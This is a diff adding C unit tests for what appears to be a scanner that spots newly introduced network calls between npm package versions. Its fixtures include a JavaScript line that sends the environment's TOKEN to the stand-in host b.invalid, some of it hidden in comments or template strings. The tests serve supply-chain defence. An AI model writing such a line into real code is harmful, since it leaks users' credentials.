@@ -252,6 +252,70 @@ TEST(the_order_of_files_does_not_matter)
         qn_buf_done(&first);
 }
 
+#define FILLER(name)                                                                             \
+        "exports." name " = function (list) { const out = []; for (const one of list) out.push(" \
+        "one.name + one.kind + '" name "'); return out.join(', '); };\n"
+#define PAYLOAD \
+        "function go() { require('https').get('https://b.invalid/' + process.env.TOKEN); }\n"
+
+TEST(what_stood_in_a_comment_is_new)
+{
+        const struct file a[] = { { "package.json", MANIFEST("1.0.0", "") },
+                                  { "index.js", FILLER("a") FILLER("b") "/*\n" PAYLOAD "*/\n" } };
+        const struct file b[] = { { "package.json", MANIFEST("1.0.1", "") },
+                                  { "index.js",
+                                    FILLER("a") FILLER("b") "/**/\n" PAYLOAD "\ngo();" } };
+
+        VERSIONS(a, b);
+        has("net.connect host=b.invalid new=kind");
+        VERSIONS(b, b);
+        has_not("net.connect new=");
+}
+
+TEST(what_stood_in_a_text_is_new)
+{
+        const struct file a[] = { { "package.json", MANIFEST("1.0.0", "") },
+                                  { "index.js",
+                                    FILLER("a") "x = `\n" PAYLOAD "`;\n" FILLER("b") } };
+        const struct file b[] = { { "package.json", MANIFEST("1.0.1", "") },
+                                  { "index.js",
+                                    FILLER("a") "x = ``;\n" PAYLOAD "go();\n" FILLER("b") } };
+
+        VERSIONS(a, b);
+        has("net.connect host=b.invalid new=kind");
+}
+
+TEST(a_function_beside_a_changed_one_is_not_new)
+{
+        const struct file a[] = { { "package.json", MANIFEST("1.0.0", "") },
+                                  { "index.js", FILLER("a") PAYLOAD FILLER("b") "go();" } };
+        const struct file b[] = { { "package.json", MANIFEST("1.0.1", "") },
+                                  { "index.js",
+                                    FILLER("c") PAYLOAD FILLER("b") "go(); go(eval);" } };
+
+        VERSIONS(a, b);
+        has("net.connect host=b.invalid");
+        has_not("net.connect new=");
+        has("version.diff what=code");
+}
+
+/* Only statements that are put together anew. */
+TEST(code_that_moved_between_functions_is_not_new)
+{
+        const struct file a[] = { { "package.json", MANIFEST("1.0.0", "") },
+                                  { "index.js", FILLER("a") PAYLOAD FILLER("b") } };
+        const struct file b[] = {
+                { "package.json", MANIFEST("1.0.1", "") },
+                { "index.js",
+                  FILLER("a") PAYLOAD FILLER(
+                          "b") "function again() { require('https').get('https://b.invalid/' + "
+                               "process.env.TOKEN); }" }
+        };
+
+        VERSIONS(a, b);
+        has_not("net.connect new=");
+}
+
 /* In a large package the machine runs what is new, whatever the syntax says: a bundler's shim hides that this starts something. */
 TEST(new_code_is_run_whatever_the_size)
 {
